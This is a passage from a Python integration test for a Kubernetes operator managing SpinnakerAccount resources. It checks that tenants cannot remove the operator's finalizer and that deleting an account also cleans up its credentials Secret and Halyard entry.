    tenant's removal of spinop's finalizer; deleting the account then cleans up everything it made."""
    tenant, name = world.tenant, "fin"
    assert tenant.create(world.account(name, deletionPolicy="Delete")).accepted
    account = objects.wait_condition(world.mgmt, "SpinnakerAccount", name, world.a, "Ready", timeout=120)
    spinnaker_name = account["status"]["spinnakerAccountName"]
    for patch in ({"metadata": {"finalizers": None}}, {"metadata": {"finalizers": ["example.com/other"]}}):
        removed = tenant.patch(name, patch)
        assert not removed.accepted and removed.code in (403, 422), str(removed)
        assert "only spinop may remove spinop.io/finalizer" in removed.message, removed.message
    kept = objects.get(world.mgmt, "SpinnakerAccount", name, world.a) or {}
    assert "spinop.io/finalizer" in kept["metadata"]["finalizers"]
    deleted = tenant.attempt(tenant.custom.delete_namespaced_custom_object, GROUP, VERSION, world.a, PLURAL, name)
    assert deleted.accepted, str(deleted)
    objects.wait_gone(world.mgmt, "SpinnakerAccount", name, world.a, timeout=120)

    secret_left = world.mgmt.core.list_namespaced_secret(
        CREDENTIALS_NAMESPACE, field_selector=f"metadata.name=spinop-{spinnaker_name}"
    ).items
    assert not secret_left, "the credentials Secret outlived its account"
    assert spinnaker_name not in halconfig_account_names(world.halyard), "the Spinnaker account outlived its CR"
